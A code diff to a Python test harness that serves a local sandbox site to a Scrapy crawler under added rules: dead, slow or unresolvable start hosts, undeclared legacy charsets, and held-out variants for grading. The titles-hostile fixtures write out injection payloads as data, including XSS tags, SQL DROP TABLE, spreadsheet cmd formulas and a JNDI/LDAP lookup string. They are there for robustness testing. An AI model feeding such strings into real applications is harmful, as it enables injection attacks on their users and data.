@@ -15,7 +15,16 @@ on a port of its own, so that its ``robots.txt`` is the host's, and bends one ru
 - ``retry-after``: one journal page answers 429 with ``Retry-After: RETRY_AFTER`` twice before it answers;
 - ``deep``: every page's content nested in ``DEEP_NESTING`` ``<div>``\\ s;
 - ``credentials``: the start page links its journals as ``http://user:secret@host:port/…``;
-- ``redirect-loop``: one journal page redirects to another URL that redirects back to it, forever.
+- ``redirect-loop``: one journal page redirects to another URL that redirects back to it, forever;
+- ``start-refused``: the start URL is on a port where nothing listens (every connection refused);
+- ``start-dropped``: the start URL is on a port whose handshakes go unanswered (a full accept queue drops them,
+  as a machine that is down or firewalled does);
+- ``start-unresolvable``: the start URL's host name resolves to nothing (``.invalid``);
+- ``slow``: every answer leaves ``SLOW_SECONDS`` late, more than the first-contact probe's timeout;
+- ``charset-ENCODING`` (:data:`CHARSET_RULES`): the journals carry titles in another script (Japanese, Russian…),
+  shown in UTF-8 on the listing; their journal pages are served in ENCODING with no charset declared anywhere;
+- ``titles-hostile`` (:data:`HOSTILE_RULES`): the journals carry titles of hostile text (markup, formulas, SQL),
+  escaped in the pages as a site shows them; each must be stored as the page shows it.
 
 :func:`rules_outcome` crawls one of them as a user does (``scrapy crawl publisher`` in a process of its own) and
 says what held.
@@ -25,8 +34,10 @@ from __future__ import annotations
 
 import contextlib
 import gzip
+import html
 import itertools
 import re
+import socket
 import threading
 import time
 from collections.abc import Sequence
@@ -53,9 +64,32 @@ RULES = (
     "deep",
     "credentials",
     "redirect-loop",
+    "start-refused",
+    "start-dropped",
+    "start-unresolvable",
+    "slow",
 )
+CHARSET_RULES = ("charset-shift_jis", "charset-cp1251")
+"""Undeclared legacy charsets (issue 25's cases); :data:`HELD_OUT_RULES` holds others."""
+HOSTILE_RULES = ("titles-hostile",)
+HELD_OUT_RULES = (
+    "charset-euc_kr",
+    "charset-koi8_r",
+    "charset-gb18030",
+    "charset-cp1253",
+    "titles-hostile-other",
+)
+"""The same families with other parameters: other encodings and scripts, other hostile strings."""
+ALL_RULES = (*RULES, *CHARSET_RULES, *HOSTILE_RULES, *HELD_OUT_RULES)
 DISALLOWING = ("robots-oversize", "robots-gzip", "robots-503", "robots-stall", "robots-refused")
 """The rules under which nothing of the site may be crawled: robots.txt disallows all, or cannot be read."""
+DEAD_START = ("start-refused", "start-dropped", "start-unresolvable")
+"""The rules whose start host is not there at all: the crawl must say so, and soon."""
+DEAD_START_BAR_SECONDS = 60.0
+"""How soon a crawl of a dead start host must have ended (it took some 247 s before hosts were probed)."""
+SLOW_SECONDS = 1.0
+UNRESOLVABLE_HOST = "journals-sandbox.invalid"
+"""A host name that resolves nowhere: ``.invalid`` is reserved for that (RFC 6761)."""
 SITE = "openaccess"
 ROBOTS_SIZE = 20 * 1024 * 1024
 """Bytes of the oversized robots.txt (past Scrapy's 16 MB ``DOWNLOAD_MAXSIZE``; its gzip is about 20 kB)."""
@@ -81,8 +115,8 @@ class RulesServer(ThreadingHTTPServer):
     block_on_close = False
 
     def __init__(self, rule: str, *, seed: int = 1, journals: int = 300, site: str = SITE, rate: float = 5.0) -> None:
-        if rule not in RULES:
-            raise ValueError(f"unknown rule {rule!r}: one of {', '.join(RULES)}")
+        if rule not in ALL_RULES:
+            raise ValueError(f"unknown rule {rule!r}: one of {', '.join(ALL_RULES)}")
         super().__init__(("127.0.0.1", 0), _RulesHandler)
         self.rule = rule
         self.site = site
@@ -95,6 +129,19 @@ class RulesServer(ThreadingHTTPServer):
         self._refilled = time.monotonic()
         self._robots = oversized_robots() if rule in ("robots-oversize", "robots-gzip") else b""
         self._robots_gzip = gzip.compress(self._robots, compresslevel=9) if rule == "robots-gzip" else b""
+        self._dead = (
+            _dead_port(dropping=rule == "start-dropped") if rule in ("start-refused", "start-dropped") else None
+        )
+        self.titles: dict[str, str] = {}
+        """The title each journal carries instead of its sandbox title (rules ``charset-*`` and ``titles-*``)."""
+        self._retitle: re.Pattern[str] | None = None
+        if rule.startswith(("charset-", "titles-")):
+            self.titles = new_titles(rule, [j["values"]["title"] for j in self.truth()["journals"]])
+            shown = {html.escape(old, quote=False): html.escape(new, quote=False) for old, new in self.titles.items()}
+            shown |= {html.escape(old): html.escape(new) for old, new in self.titles.items()}
+            self._shown_titles = shown
+            alternatives = "|".join(re.escape(old) for old in sorted(shown, key=len, reverse=True))
+            self._retitle = re.compile(rf"(?<!\w)(?:{alternatives})(?!\w)")
         self.retry_after_path = ""
         """The journal page that answers 429 twice (rule ``retry-after``), or that redirects in a loop (rule
         ``redirect-loop``), set from the truth."""
@@ -109,6 +156,10 @@ class RulesServer(ThreadingHTTPServer):
         """The site's start URL (with credentials under the ``credentials`` rule)."""
         if self.rule == "credentials":
             return f"http://{USER_INFO}@127.0.0.1:{self.server_address[1]}/{self.site}/"
+        if self._dead is not None:
+            return f"http://127.0.0.1:{self._dead[0].getsockname()[1]}/{self.site}/"
+        if self.rule == "start-unresolvable":
+            return f"http://{UNRESOLVABLE_HOST}:{self.server_address[1]}/{self.site}/"
         return f"{self.base_url}/{self.site}/"
 
     def truth(self) -> dict[str, Any]:
@@ -144,6 +195,24 @@ class RulesServer(ThreadingHTTPServer):
         """Serve in a daemon thread; :meth:`shutdown` stops it."""
         threading.Thread(target=self.serve_forever, name=f"rules-{self.rule}", daemon=True).start()
 
+    def retitled(self, response: WebResponse, path: str) -> WebResponse:
+        """A page with the journals' new titles; under a ``charset-ENCODING`` rule, a journal page is encoded in
+        ENCODING and declares no charset (its header says ``text/html``, its ``<meta>`` is gone)."""
+        assert self._retitle is not None
+        page = self._retitle.sub(lambda m: self._shown_titles[m.group()], response.body.decode("utf-8"))
+        if not (self.rule.startswith("charset-") and path.startswith(f"/{self.site}/journal/")):
+            return WebResponse(response.status, page.encode("utf-8"), response.headers)
+        page = re.sub(r"<meta charset=[^>]*>", "", page)
+        encoding = self.rule.removeprefix("charset-")
+        headers = {**response.headers, "Content-Type": "text/html"}
+        return WebResponse(response.status, page.encode(encoding, errors="xmlcharrefreplace"), headers)
+
+    def server_close(self) -> None:
+        """Close the server and the dead start host's sockets."""
+        super().server_close()
+        for dead in self._dead or []:
+            dead.close()
+
 
 class _RulesHandler(BaseHTTPRequestHandler):
     server: RulesServer
@@ -153,6 +222,8 @@ class _RulesHandler(BaseHTTPRequestHandler):
         parts = urlsplit(self.path)
         key = parts.path + (f"?{parts.query}" if parts.query else "")
         rule = self.server.rule
+        if rule == "slow":
+            time.sleep(SLOW_SECONDS)
         if rule == "rate-limit" and not self.server.take_token():
             self.server.record(key, 429)
             self._send(WebResponse(429, b"Too many requests", {"Retry-After": "1", "Content-Type": "text/plain"}))
@@ -171,6 +242,8 @@ class _RulesHandler(BaseHTTPRequestHandler):
             return
         response = self.server.web.respond(parts.path, parts.query, self.headers.get("Host", "127.0.0.1"))
         if response.status == 200 and "html" in response.headers.get("Content-Type", ""):
+            if self.server._retitle is not None:
+                response = self.server.retitled(response, parts.path)
             if rule == "deep":
                 response.body = _nest(response.body, DEEP_NESTING)
             elif rule == "credentials":
@@ -210,6 +283,101 @@ class _RulesHandler(BaseHTTPRequestHandler):
 
     def log_message(self, format: str, *args: object) -> None:
         """Quiet: the server's record is :attr:`RulesServer.served`."""
+
+
+NATIVE_WORDS: dict[str, tuple[tuple[str, ...], ...]] = {
+    "Cyrillic": (
+        ("Вестник", "Журнал", "Известия", "Труды", "Записки", "Обзоры"),
+        ("прикладной", "теоретической", "клинической", "современной", "морской", "общей"),
+        ("химии", "физики", "медицины", "экономики", "истории", "акустики"),
+    ),
+    "Japanese": (
+        ("日本", "国際", "応用", "臨床", "理論", "現代"),
+        ("物理", "化学", "医学", "経済", "歴史", "音響"),
+        ("学会誌", "研究", "ジャーナル", "レビュー", "紀要", "論集"),
+    ),
+    "Korean": (
+        ("한국", "국제", "응용", "임상", "이론", "현대"),
+        ("물리", "화학", "의학", "경제", "역사", "음향"),
+        ("학회지", "연구", "저널", "리뷰", "논총", "학보"),
+    ),
+    "Chinese": (
+        ("中国", "国际", "应用", "临床", "理论", "现代"),
+        ("物理", "化学", "医学", "经济", "历史", "声学"),
+        ("学报", "研究", "杂志", "评论", "进展", "通讯"),
+    ),
+    "Greek": (
+        ("Επιθεώρηση", "Αρχεία", "Χρονικά", "Δελτίο", "Πρακτικά", "Μελέτες"),
+        ("Εφαρμοσμένης", "Θεωρητικής", "Κλινικής", "Σύγχρονης", "Θαλάσσιας", "Γενικής"),
+        ("Χημείας", "Φυσικής", "Ιατρικής", "Οικονομίας", "Ιστορίας", "Ακουστικής"),
+    ),
+}
+"""Words of journal titles in each script: a title is one word of each row."""
+SCRIPT_OF_ENCODING = {
+    "shift_jis": "Japanese",
+    "euc_jp": "Japanese",
+    "cp1251": "Cyrillic",
+    "koi8_r": "Cyrillic",
+    "euc_kr": "Korean",
+    "gb18030": "Chinese",
+    "cp1253": "Greek",
+}
+HOSTILE_TITLES: dict[str, tuple[str, ...]] = {
+    "titles-hostile": (
+        '"><img src=x onerror=alert(1)> Journal of Images',
+        "-2+3+cmd|' /C calc'!A0 Journal",
+        '=HYPERLINK("http://example.invalid/?x","Journal of Links")',
+        "+SUM(1+1) Journal of Sums",
+        "@SUM(1+1) Journal of Ats",
+        "Robert'); DROP TABLE journals;-- Journal",
+        "<script>alert('x')</script> Journal of Scripts",
+        "Journal of {{7*7}} Templates",
+    ),
+    "titles-hostile-other": (
+        "</title><svg onload=alert(2)> Annals of Markup",
+        "-1+1+cmd|' /C notepad'!B2 Review",
+        "=1+2 Quarterly of Formulas",
+        "@cmd|' /C dir'!C3 Letters",
+        "' OR '1'='1' -- Journal of Queries",
+        "${jndi:ldap://example.invalid/a} Journal of Logs",
+        'Journal & <b>Bold</b> "Quotes" Review',
+        "javascript:alert(3) Proceedings",
+    ),
+}
+"""Titles of hostile text: markup, spreadsheet formulas, SQL and template injections. A title is data: each must be
+stored exactly as the page shows it."""
+
+
+def new_titles(rule: str, titles: list[str]) -> dict[str, str]:
+    """The title each journal carries under ``rule``, by its sandbox title: every journal a title in the script of
+    a ``charset-ENCODING`` rule, the first journals a hostile title under a ``titles-*`` rule."""
+    if rule in HOSTILE_TITLES:
+        return dict(zip(titles, HOSTILE_TITLES[rule], strict=False))
+    first, second, third = NATIVE_WORDS[SCRIPT_OF_ENCODING[rule.removeprefix("charset-")]]
+    spaced = " " if SCRIPT_OF_ENCODING[rule.removeprefix("charset-")] not in ("Japanese", "Chinese") else ""
+    return {
+        title: spaced.join((first[i % 6], second[i // 6 % 6], third[(i + i // 6) % 6]))
+        for i, title in enumerate(titles)
+    }
+
+
+def _dead_port(*, dropping: bool) -> list[socket.socket]:
+    """A local port where no web server answers, as sockets to keep open until the rule's server closes: the first
+    one's port refuses every connection (its socket bound, never listening) or, ``dropping``, drops every handshake
+    (it listens with an accept queue the others fill and nobody empties)."""
+    port = socket.socket()
+    port.bind(("127.0.0.1", 0))
+    if not dropping:
+        return [port]
+    port.listen(0)
+    fillers = []
+    for _ in range(3):
+        filler = socket.socket()
+        filler.setblocking(False)
+        with contextlib.suppress(BlockingIOError):
+            filler.connect(port.getsockname())
+        fillers.append(filler)
+    return [port, *fillers]
 
 
 def _nest(body: bytes, depth: int) -> bytes:
@@ -275,8 +443,10 @@ def rules_crawl(
 
 RULE_SETTINGS: dict[str, tuple[str, ...]] = {
     "robots-stall": ("DOWNLOAD_TIMEOUT=2", "RETRY_TIMES=1"),
+    "slow": ("FIRST_CONTACT_TIMEOUT=0.5",),
 }
-"""Settings a rule's crawl runs with: a robots.txt that never answers is given up after two tries of 2 s."""
+"""Settings a rule's crawl runs with: a robots.txt that never answers is given up after a try of 2 s; a slow site's
+answers come later than the first-contact probe's timeout."""
 
 
 def rules_outcome(folder: Path, rule: str, *, production: bool = False, seed: int = 1) -> Outcome:
@@ -309,13 +479,12 @@ def rules_outcome(folder: Path, rule: str, *, production: bool = False, seed: in
     )
     if "Traceback" in run.result.log:
         outcome.problems.append("a traceback in the log")
+    if rule in DEAD_START:
+        return _judge_dead_start(outcome, run)
     if rule in DISALLOWING:
-        outcome.figures["journals_lost"] = 0
-        if run.pages_served:
-            outcome.problems.append(f"{len(run.pages_served)} pages fetched though robots.txt could not be read")
-        if run.result.returncode != 3:
-            outcome.problems.append(f"exit status {run.result.returncode}, not 3 (health check failed)")
-        return outcome
+        return _judge_disallowed(outcome, run)
+    if run.server.titles:
+        _judge_titles(outcome, run)
     expected_lost = [run.server.retry_after_path] if rule == "redirect-loop" else []
     lost = [path for path in run.journals_lost if path not in expected_lost]
     outcome.figures["journals_lost"] = len(lost)
@@ -336,3 +505,44 @@ def rules_outcome(folder: Path, rule: str, *, production: bool = False, seed: in
     if rule == "credentials" and HIDDEN_WORD in run.result.log:
         outcome.problems.append("the password is in the log")
     return outcome
+
+
+def _judge_dead_start(outcome: Outcome, run: RulesRun) -> Outcome:
+    """A start host that is not there: the crawl fails its health check naming the start page, without retries,
+    within :data:`DEAD_START_BAR_SECONDS`."""
+    stats = run.result.stats
+    outcome.figures.update(
+        journals_lost=0,
+        retries=stats.get("retry/count", 0),
+        first_contact={k.removeprefix("first_contact/"): v for k, v in stats.items() if k.startswith("first_contact/")},
+    )
+    reasons = " ".join(stats.get("health/reasons", []))
+    if run.result.returncode != 3 or "could not be fetched" not in reasons:
+        outcome.problems.append(f"exit status {run.result.returncode}, health reasons {reasons!r}: not a dead start")
+    if outcome.figures["wall_seconds"] > DEAD_START_BAR_SECONDS:
+        outcome.problems.append(f"a dead start host took {outcome.figures['wall_seconds']} s to report")
+    return outcome
+
+
+def _judge_disallowed(outcome: Outcome, run: RulesRun) -> Outcome:
+    """A site whose robots.txt cannot be read: nothing of it fetched, the health check failed."""
+    outcome.figures["journals_lost"] = 0
+    if run.pages_served:
+        outcome.problems.append(f"{len(run.pages_served)} pages fetched though robots.txt could not be read")
+    if run.result.returncode != 3:
+        outcome.problems.append(f"exit status {run.result.returncode}, not 3 (health check failed)")
+    return outcome
+
+
+def _judge_titles(outcome: Outcome, run: RulesRun) -> None:
+    """Every journal stored under the title its page shows (its new title when it has one)."""
+    wrong = {
+        path: (run.stored[path], run.server.titles.get(j["values"]["title"], j["values"]["title"]))
+        for j in run.truth["journals"]
+        if (path := url_path(j["url"])) in run.stored
+        and run.stored[path] != run.server.titles.get(j["values"]["title"], j["values"]["title"])
+    }
+    outcome.figures["titles_not_as_shown"] = len(wrong)
+    if wrong:
+        stored, shown = next(iter(wrong.values()))
+        outcome.problems.append(f"{len(wrong)} titles not stored as shown, e.g. {stored!r} for {shown!r}")
